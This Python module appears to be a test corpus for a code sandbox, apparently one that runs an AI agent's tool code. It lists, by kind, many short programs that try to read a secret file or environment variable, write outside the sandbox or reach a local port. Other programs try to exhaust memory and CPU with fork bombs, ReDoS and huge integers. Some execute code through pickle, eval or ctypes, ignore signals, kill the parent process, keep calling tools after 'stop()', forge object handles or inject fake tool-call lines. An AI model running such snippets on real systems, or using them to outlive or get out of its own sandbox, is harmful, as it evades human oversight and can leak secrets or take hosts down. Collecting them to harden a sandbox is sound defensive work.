# ruff: noqa: E501 (a program stands in one literal where it can)
"""Programs that try to get out of a sandbox, to outlive their limits, or to bring it down; by kind.

@FILE@ is a file with a secret, @DIR@ a folder to write to, @PORT@ a port somebody listens at, @VAR@ an environment
variable with a secret. A program that gets at any of them has escaped; what it prints otherwise is its own affair.
"""

from __future__ import annotations

READ = "open('@FILE@').read()"

PROGRAMS: dict[str, tuple[str, ...]] = {
    "dunder walks": (
        "for c in ().__class__.__base__.__subclasses__():\n"
        "    if c.__name__ == '_wrap_close':\n"
        "        print(c.__init__.__globals__['popen']('cat @FILE@').read())",
        "print([].__class__.__mro__[1].__subclasses__()[100:120])\n"
        "for c in object.__subclasses__():\n"
        "    g = getattr(getattr(c, '__init__', None), '__globals__', {})\n"
        "    if 'sys' in g:\n"
        "        print(g['sys'].modules['os'].environ.get('@VAR@'))",
        "def f(): pass\nprint(f.__globals__['__builtins__'].open('@FILE@').read())",
        "print(print.__self__.open('@FILE@').read())",
        "print(json.__loader__.get_data('@FILE@'))",
        "print(math.__spec__.loader.load_module('os').popen('cat @FILE@').read())",
        "print(getattr(getattr('', '__cl' + 'ass__'), '__ba' + 'se__').__subclasses__())\n"
        "print(type.__getattribute__(type, '__subclasses__'))",
        "print(json.codecs.open('@FILE@').read())\nprint(re.enum.sys.modules['os'].environ['@VAR@'])",
    ),
    "frames": (
        "import sys\nf = sys._getframe()\nwhile f:\n    print(f.f_locals, f.f_globals.get('__file__'))\n    f = f.f_back",
        "try:\n    1 / 0\nexcept Exception as e:\n    f = e.__traceback__.tb_frame\n    while f.f_back:\n"
        "        f = f.f_back\n    print(f.f_builtins['open']('@FILE@').read())",
        "def g():\n    yield 1\nx = g()\nprint(x.gi_frame.f_back, x.gi_frame.f_builtins['__import__']('os').environ)",
        "async def c():\n    pass\nx = c()\nprint(x.cr_frame.f_builtins['open']('@FILE@').read())",
        "import inspect\nprint([f.frame.f_globals for f in inspect.stack()])\n"
        "print(inspect.stack()[-1].frame.f_globals['os'].environ['@VAR@'])",
    ),
    "format strings": (
        "print('{0.__class__.__init__.__globals__}'.format(json.JSONDecoder()))",
        "def f(): pass\nprint('{0.__globals__[__builtins__]}'.format(f))",
        "print('{0.__class__.__mro__[1].__subclasses__}'.format(1))\nprint(f'{open(\"@FILE@\").read()}')",
        "print('{:{}}'.format('x', 10**9))",
        "print('%*d' % (10**9, 1))",
        "print(f'{1:>1000000000}')",
    ),
    "imports": (
        "import os\nos.system('cat @FILE@ > @DIR@/escape')",
        "print(__import__('os').environ['@VAR@'])",
        "import importlib\nprint(importlib.import_module('os').popen('cat @FILE@').read())",
        "import sys\nsys.path.insert(0, '@DIR@')\nprint(sys.modules['os'].environ.get('@VAR@'))",
        "import builtins\nprint(builtins.open('@FILE@').read())",
        "from os import *\nprint(getenv('@VAR@'))",
        "import posix\nprint(posix.environ, posix.open('@FILE@', 0))",
        "import runpy\nrunpy.run_path('@FILE@')",
        "import pip\npip.main(['install', '--target', '@DIR@', 'x'])",
    ),
    "files": (
        "print(open('@FILE@').read())",
        "from pathlib import Path\nprint(Path('@FILE@').read_text())",
        "import os\nfd = os.open('@FILE@', os.O_RDONLY)\nprint(os.read(fd, 1000))",
        "open('@DIR@/escape', 'w').write('out')",
        "from pathlib import Path\nPath('@DIR@/escape').write_text('out')\nPath('@DIR@/escape2').mkdir()",
        "import os\nprint(os.listdir('@DIR@'), os.listdir('/proc/self/fd'))\nos.symlink('@FILE@', 'link')\n"
        "print(open('link').read())",
        "import os\nos.link('@FILE@', 'hard')\nprint(open('hard').read())",
        "import shutil\nshutil.copy('@FILE@', '@DIR@/escape')",
        "import sqlite3\nsqlite3.connect('@DIR@/escape').execute('create table t(x)')",
        "import os\nos.remove('@FILE@')\nos.rename('@FILE@', '@DIR@/escape')\nos.chmod('@FILE@', 0)",
        "print(open('/proc/self/environ').read(), open('/proc/1/environ').read())",
        "import os\nfor n in range(3, 200):\n    try:\n        os.lseek(n, 0, 0)\n        print(os.read(n, 5000))\n"
        "    except Exception:\n        pass",
        "print(open('../../../../../../../..@FILE@').read())",
        "import mmap, os\nprint(mmap.mmap(os.open('@FILE@', 0), 0, prot=1)[:])",
        "import fileinput, linecache\nprint(linecache.getlines('@FILE@'))\nprint(list(fileinput.input('@FILE@')))",
    ),
    "sockets": (
        "import socket\ns = socket.create_connection(('127.0.0.1', @PORT@), 1)\ns.send(b'out')",
        "import urllib.request\nprint(urllib.request.urlopen('http://127.0.0.1:@PORT@/', timeout=1).read())",
        "import http.client\nc = http.client.HTTPConnection('127.0.0.1', @PORT@, timeout=1)\nc.request('GET', '/')",
        "import socket\ns = socket.socket(socket.AF_INET6)\ns.connect(('::1', @PORT@))",
        "r, w = await asyncio.open_connection('127.0.0.1', @PORT@)\nw.write(b'out')",
        "import socket\na, b = socket.socketpair()\ns = socket.socket(socket.AF_UNIX)\ns.bind('@DIR@/escape')",
        "import _socket\ns = _socket.socket(2, 1)\ns.connect(('127.0.0.1', @PORT@))",
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'out', ('127.0.0.1', @PORT@))",
    ),
    "environment": (
        "import os\nprint(os.environ['@VAR@'])",
        "import os\nprint(dict(os.environ), os.getenv('@VAR@'), os.environb)",
        "import os\nprint(os.popen('echo $@VAR@').read())",
        "print(open('/proc/self/environ', 'rb').read())\nprint(open(f'/proc/{__import__(\"os\").getppid()}/environ').read())",
        "import sysconfig, platform, getpass, os\nprint(getpass.getuser(), platform.uname(), os.path.expanduser('~'))\n"
        "print(os.path.expandvars('$@VAR@'))",
    ),
    "processes": (
        "import subprocess\nprint(subprocess.run(['cat', '@FILE@'], capture_output=True))",
        "import os\nprint(os.popen('cat @FILE@').read())",
        "import os\nos.execv('/bin/sh', ['sh', '-c', 'touch @DIR@/escape'])",
        "import os\nos.posix_spawn('/bin/touch', ['touch', '@DIR@/escape'], {})",
        "import multiprocessing\np = multiprocessing.Process(target=print)\np.start()\np.join()",
        "import pty\npty.spawn(['touch', '@DIR@/escape'])",
        "p = await asyncio.create_subprocess_shell('touch @DIR@/escape')\nawait p.wait()",
        "import _posixsubprocess, os\nprint(_posixsubprocess.fork_exec)\nos.system('touch @DIR@/escape')",
    ),
    "fork bombs": (
        "import os\nwhile True:\n    os.fork()",
        "import os\nif os.fork() == 0:\n    os.setsid()\n    while True:\n        pass",
        "import os\nfor i in range(100):\n    try:\n        if os.fork() == 0:\n            import time\n            time.sleep(60)\n"
        "    except OSError as e:\n        print(e)\n        break",
        "from concurrent.futures import ProcessPoolExecutor\nwith ProcessPoolExecutor() as p:\n    print(list(p.map(abs, range(9))))",
    ),
    "threads": (
        "import threading\nwhile True:\n    threading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()",
        "import _thread\ndef spin():\n    while True:\n        pass\n_thread.start_new_thread(spin, ())\nprint('on')",
        "import threading, time\nt = threading.Timer(0.2, lambda: open('@DIR@/escape', 'w'))\nt.start()\nt.join()",
        "from concurrent.futures import ThreadPoolExecutor\np = ThreadPoolExecutor(50)\n"
        "for i in range(200):\n    p.submit(lambda: sum(range(10**9)))",
        "import threading\nl = threading.Lock()\nl.acquire()\nl.acquire()",
    ),
    "memory": (
        "x = [0] * 10**10",
        "x = 'y' * 10**11",
        "x = []\nwhile True:\n    x.append('z' * 10**6 + str(len(x)))",
        "x = b'1'\nwhile True:\n    x = x + x",
        "x = {}\nwhile True:\n    x[len(x)] = [len(x)] * 100",
        "x = list(range(10**9))",
        "s = 'ab' * 10**6\nprint(len(s.replace('a', s)))",
        "x = [[]]\nfor i in range(60):\n    x = [x, list(x)] * 2\n    y = str(x) if i > 40 else ''",
        "x = bytearray(10**11)",
        "x = ' '.join(str(i) for i in range(10**9))",
    ),
    "big integers": (
        "x = 3\nwhile True:\n    x = x * x",
        "print(10 ** (10 ** 8) % 7)",
        "x = 9**9**9**9",
        "x = 1 << (1 << 40)",
        "print(len(str(7**3000000)))",
        "print(math.factorial(10**7) % 10)",
        "print(pow(3, 10**9, 10**5000))\nprint(int('9' * 10**6))",
        "a = 10**3000000 + 1\nfor i in range(50):\n    a = a * a // (a - 1)",
        "print(math.comb(10**6, 5 * 10**5) % 10)",
    ),
    "regular expressions": (
        "print(re.match('(a+)+$', 'a' * 60 + 'b'))",
        "print(re.match('(a|aa)+$', 'a' * 60 + 'b'))",
        "print(re.search('(.*)*x', 'y' * 5000))",
        "print(re.sub('(a*)*b', '', 'a' * 40))",
        "print(re.compile('(' * 5000 + 'a' + ')' * 5000))",
        "print(re.match('((a{1,100}){1,100}){1,100}', 'a' * 1000000))",
        "print(re.match(r'(x+x+)+y', 'x' * 60))",
    ),
    "endless loops": (
        "while True:\n    pass",
        "for i in iter(int, 1):\n    pass",
        "def f():\n    while 1: f_ = 1\nf()",
        "import itertools\nfor i in itertools.count():\n    pass",
        "import itertools\nsum(itertools.repeat(1))",
        "print(10**18 in range(0, 10**18, 3), sum(range(10**12)))",
        "d = {}\nwhile len(d) < 2:\n    d['a'] = [d.get('a')][:0]",
        "[i for i in range(10**12) if i < 0]",
        "max(i % 7 for i in range(10**12))",
        "while tool() is None:\n    pass",
    ),
    "outliving by except and finally": (
        "while True:\n    try:\n        while True: pass\n    except: pass",
        "while True:\n    try:\n        while True: pass\n    except BaseException: continue",
        "while True:\n    try:\n        while True: pass\n    finally: continue",
        "def f():\n    try:\n        while True: pass\n    finally:\n        f()\nf()",
        "class C:\n    def __enter__(self): return self\n    def __exit__(self, *a): return True\n"
        "while True:\n    with C():\n        while True: pass",
        "import contextlib\nwhile True:\n    with contextlib.suppress(BaseException):\n        while True: pass",
        "class D:\n    def __del__(self):\n        while True: pass\nx = D()\nx = None",
        "import signal\nsignal.signal(signal.SIGALRM, lambda *a: None)\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "signal.signal(signal.SIGXCPU, signal.SIG_IGN)\nwhile True: pass",
        "import sys\nsys.setrecursionlimit(10**9)\nsys.settrace(None)\nwhile True:\n    try:\n        while True: pass\n"
        "    except BaseException as e:\n        e = None",
        "import atexit\natexit.register(lambda: [0 for _ in iter(int, 1)])\nraise SystemExit",
        "try:\n    x = 'x' * 10**11\nexcept MemoryError:\n    while True: pass",
    ),
    "recursion": (
        "def f(): f()\nf()",
        "def f():\n    try:\n        f()\n    finally:\n        f()\nf()",
        "def f(n):\n    try:\n        return f(n + 1)\n    except RecursionError:\n        return f(n + 1)\nf(0)",
        "import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
        "x = []\nfor i in range(10**6):\n    x = [x]\nprint(x)\nprint(x == x)",
        "class R:\n    def __repr__(self): return repr(self)\nprint(R())",
        "class A:\n    def __getattr__(self, n): return getattr(self, n + 'x')\nA().y",
        "f = lambda: 0\nfor i in range(10**5):\n    f = (lambda g: lambda: g())(f)\nf()",
        "print(json.loads('[' * 10**6))",
        "a = []\na.append(a)\nprint(a)\nprint(json.dumps(a))",
    ),
    "deep source": (
        "x = " + "(" * 3000 + "1" + ")" * 3000,
        "x = " + "-" * 20000 + "1",
        "x = " + "1+" * 20000 + "1",
        "x = " + "[" * 3000 + "]" * 3000,
        "".join("    " * i + "if 1:\n" for i in range(90)) + "    " * 90 + "x = 1",
        "x" + ".a" * 20000,
        "f" + "(1)" * 20000,
        "lambda: " * 5000 + "1",
    ),
    "output floods": (
        "while True:\n    print('x' * 1000)",
        "print('x' * 10**7)",
        "while True:\n    print('', end='')",
        "import sys\nwhile True:\n    sys.stderr.write('x' * 1000)",
        "import os\nwhile True:\n    os.write(1, b'x' * 65536)\n    os.write(2, b'x' * 65536)",
        "while True:\n    print(end='\\x1b[2J\\x07')",
        "raise ValueError('x' * 10**7)",
    ),
    "sleeping": (
        "import time\ntime.sleep(3600)",
        "await asyncio.sleep(3600)",
        "import time\nwhile True:\n    time.sleep(0.01)",
        "await asyncio.gather(*[asyncio.sleep(1000) for i in range(100)])",
        "import time\ntime.sleep(float('inf'))",
        "import time\ntry:\n    time.sleep(float('nan'))\nexcept ValueError:\n    pass\nwhile True: pass",
        "import select\nselect.select([], [], [], 1000)",
        "await asyncio.Event().wait()",
        "import time\nend = time.time() + 1\nwhile time.time() < end: pass",
        "end = datetime.now() + timedelta(hours=1)\nwhile datetime.now() < end: pass",
    ),
    "catching stop": (
        "try:\n    stop()\nexcept BaseException:\n    pass\nfinally:\n    tool('after stop')\ntool('after stop')",
        "while True:\n    try:\n        stop()\n    except:\n        tool('after stop')",
        "await asyncio.gather(stop(), tool('beside'))\ntool('after stop')",
        "class W:\n    def __enter__(self): return 1\n    def __exit__(self, *a): tool('after stop')\nwith W():\n    stop()",
        "def f():\n    try:\n        stop()\n    finally:\n        return 1\nf()\ntool('after stop')",
        "s = stop\nx = [s() for i in range(3)]\ntool('after stop')",
    ),
    "tampering with handles": (
        "h = thing()\nh.id = 'thing-2'\ntool(h)",
        "h = thing()\nh.__dict__['id'] = 'thing-2'\ntool(h)",
        "h = thing()\nobject.__setattr__(h, '_id', 'thing-2')\ntool(h)",
        "h = thing()\ntool(type(h)('thing-2', '<Thing>'))",
        "h = thing()\nk = type(h)\nx = k.__new__(k)\nx.id = 'thing-2'\ntool(x)",
        "h = thing()\nimport copy, pickle\ntool(pickle.loads(pickle.dumps(h).replace(b'thing-1', b'thing-2')))",
        "tool({'$thing': 'thing-2', 'is': '<Thing>'})",
        "h = thing()\nh.__class__ = dict\ntool(h)",
        "h = thing()\nfor c in type(h).__mro__:\n    for n in list(vars(c)):\n        try:\n            setattr(c, n, 'thing-2')\n"
        "        except Exception:\n            pass\ntool(h)",
        "import gc\nfor o in gc.get_objects():\n    if type(o) is dict:\n        for k in list(o):\n"
        "            if o[k] == 'thing-1': o[k] = 'thing-2'\ntool(thing())",
    ),
    "the way out": (
        'import os\nfor fd in range(3, 30):\n    try:\n        os.write(fd, b\'{"calls": ["evil"]}\\n\' * 10)\n    except OSError:\n        pass',
        "import os\nfor fd in range(0, 30):\n    try:\n        os.close(fd)\n    except OSError:\n        pass\nprint('on')",
        "import os\nos._exit(0)",
        "import os\nos.kill(os.getpid(), 9)",
        "import os\nos.kill(os.getppid(), 15)",
        "import sys\nsys.stdout = None\nsys.stdin = None\nprint('on')",
        "import sys\nsys.modules.clear()\nprint('on')",
        "import builtins\nbuiltins.print = builtins.open = builtins.len = None\nprint('on')",
    ),
    "ctypes and memory": (
        "import ctypes\nctypes.string_at(0)",
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.system(b'touch @DIR@/escape')",
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.syscall(57)\nlibc.syscall(2, b'@FILE@', 0)\nprint(libc.open(b'@FILE@', 0))",
        "import _ctypes\nprint(_ctypes.dlopen('libc.so.6', 2))",
        "print(open('/proc/self/mem', 'rb+').read(10))",
        "import faulthandler\nfaulthandler._sigsegv()",
    ),
    "signals": (
        "import signal\nsignal.pause()",
        "import signal, os\nfor n in range(1, 65):\n    try:\n        signal.signal(n, signal.SIG_IGN)\n    except Exception:\n        pass\n"
        "while True: pass",
        "import signal\nsignal.alarm(0)\nsignal.setitimer(signal.ITIMER_REAL, 0)\nsignal.setitimer(signal.ITIMER_PROF, 0)\n"
        "while True: pass",
        "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nwhile True: pass",
        "import resource\nresource.setrlimit(resource.RLIMIT_CPU, (10**6, 10**6))\nwhile True: pass",
        "import os, signal\nos.killpg(0, signal.SIGTERM)",
    ),
    "eval and exec": (
        'eval(\'__import__("os").system("touch @DIR@/escape")\')',
        "exec('import os\\nprint(os.environ[\"@VAR@\"])')",
        "exec(compile('print(open(\"@FILE@\").read())', 'x', 'exec'), {})",
        "eval('[eval(s, {}) for s in [\"open(\\'@FILE@\\').read()\"]]')",
        "exec('while True:\\n    try:\\n        exec(\"while True: pass\")\\n    except: pass')",
        "s = 'x = 1'\nfor i in range(100000):\n    exec(s)\nwhile True:\n    exec(s)",
        "f = type(lambda: 0)(compile(\"print(open('@FILE@').read())\", 'x', 'exec'), {})\nf()",
        "import types\nc = (lambda: 0).__code__.replace(co_code=b'\\x01' * 100)\ntypes.FunctionType(c, {})()",
    ),
    "pickles": (
        "import pickle\nclass E:\n    def __reduce__(self):\n        import os\n        return (os.system, ('touch @DIR@/escape',))\n"
        "pickle.loads(pickle.dumps(E()))",
        "import pickle\nprint(pickle.loads(b\"cos\\nsystem\\n(S'touch @DIR@/escape'\\ntR.\"))",
        "import marshal\nexec(marshal.loads(marshal.dumps(compile(\"open('@DIR@/escape', 'w')\", 'x', 'exec'))))",
        "class E:\n    def __reduce__(self):\n        return (exec, (\"open('@DIR@/escape', 'w')\",))\ntool(E())\ntool([E()])",
        "import shelve\nshelve.open('@DIR@/escape')['x'] = 1",
    ),
    "async tricks": (
        "async def f():\n    while True:\n        await asyncio.sleep(0)\nawait f()",
        "async def f():\n    await f()\nawait f()",
        "async def f():\n    await asyncio.gather(f(), f())\nawait f()",
        "async def f():\n    try:\n        while True: await asyncio.sleep(0)\n    finally:\n        await f()\nawait asyncio.wait_for(f(), 0.01)",
        "async def f():\n    while True: pass\nasyncio.get_event_loop().create_task(f())\nprint('on')",
        "asyncio.get_event_loop().run_forever()",
        "await asyncio.gather(*[tool(i) for i in range(100000)])",
        "import asyncio\nasyncio.run(asyncio.sleep(1000))",
        "x = tool(1)\nawait x\nawait x\nawait x",
    ),
    "generators": (
        "def g():\n    while True: yield 1\nfor x in g(): pass",
        "def g():\n    try:\n        while True: yield 1\n    finally:\n        while True: pass\nnext(g())",
        "def g():\n    yield from g()\nnext(g())",
        "def g():\n    while True:\n        try: yield 1\n        except GeneratorExit: pass\nx = g()\nnext(x)\nx.close()",
        "x = (i for i in range(3))\nfor i in range(100000):\n    x = (j for j in x)\nlist(x)",
        "list(i for i in iter(lambda: 1, 2))",
    ),
    "decimals and texts": (
        "import decimal\nprint(decimal.Decimal(10) ** decimal.Decimal(10**9))\ndecimal.getcontext().prec = 10**8\n"
        "print(decimal.Decimal(2).sqrt())",
        "print(int('1' * 10**7))",
        "import fractions\nprint(fractions.Fraction(1, 3) ** 10**7)",
        "print(float('1' * 10**7), complex('1' * 10**6))",
        "s = 'a'\nwhile True:\n    s = s + s.upper() + s",
        "print(len('x'.ljust(10**10)), len('ab'.join(['x'] * 10**9)))",
        "x = 'ß' * 10**7\nprint(len(x.upper().lower().title().encode('utf-8').decode('utf-8').casefold()))",
        "print(sorted('x' * 10**8)[0])",
        "print(len('a' * 10**6 + 'b') and ('a' * 10**6 + 'b').count('a' * 5 * 10**5 + 'b'))",
        "x = 'a,' * 10**7\nprint(len(x.split(',')))",
    ),
    "hash collisions": (
        "d = {}\nfor i in range(10**7):\n    d[i * (2**61 - 1)] = i",
        "class H:\n    def __hash__(self): return 1\n    def __eq__(self, o): return False\n"
        "d = {}\nfor i in range(10**6):\n    d[H()] = i",
        "s = set()\nfor i in range(10**7):\n    s.add((i << 61) - i)",
    ),
    "weird text": (
        "print('a\x00b')",
        "x = 1\x00",
        "\ufeffprint(1)",
        "# -*- coding: utf-7 -*-\n+AHAAcgBpAG4AdA-(1)",
        "print('\\ud800\\udfff')\ntool('\\ud800')",
        "print('\ue000()', '\u202e\u2066 abc')",
        "\uff50\uff52\uff49\uff4e\uff54(1)\n\u212f = 1",
        "print(1)\r\rprint(2)\x0cprint(3)\u2028print(4)",
        "x = '\\N{GREEK SMALL LETTER ALPHA}' * 3\nprint(x)\nprint(b'\\xff\\xfe'.decode('utf-16'))",
        "\x1b[2J\x07",
        "",
        "\n" * 100000,
        "x = 1; " * 20000,
        "'''" + "a" * 1000000,
    ),
    "names of the host": (
        "print(globals(), locals(), vars(), dir())",
        "print(__builtins__, __loader__, __spec__, __file__)\nprint(open(__file__).read())",
        "print(__name__)\nimport __main__\nprint(vars(__main__))\nprint(__main__.os.environ['@VAR@'])",
        "import plait\nprint(plait.sandbox.monty._pools)",
        "import gc\nprint([o for o in gc.get_objects() if 'secret' in str(o)[:1000]][:5])",
        "import sys\nfor m in list(sys.modules.values()):\n    e = getattr(getattr(m, 'os', None), 'environ', {})\n    print(e.get('@VAR@'))",
        "help()\nbreakpoint()\ninput('?')\nexit()\nquit()",
        "license()\ncopyright()\ncredits()",
    ),
}

MUST_END = {
    "endless loops",
    "outliving by except and finally",
    "fork bombs",
}
"""Kinds whose every program must come to an error, a limit most often: left alone it would run for ever."""

MAY_END_WELL = ("import atexit", "class D:", "print(10**18 in", "import os\nfor i in range(100)")
"""Beginnings of programs of those kinds that may end well all the same: a hook that isn't run, a fork refused."""

SPOILING = ("builtins.print =", "sys.stdout = None", "os.close(fd)", "sys.modules.clear()", "setattr(c, n")
"""Words of programs after which a session may print no more: they spoil their own namespace, and nothing else."""
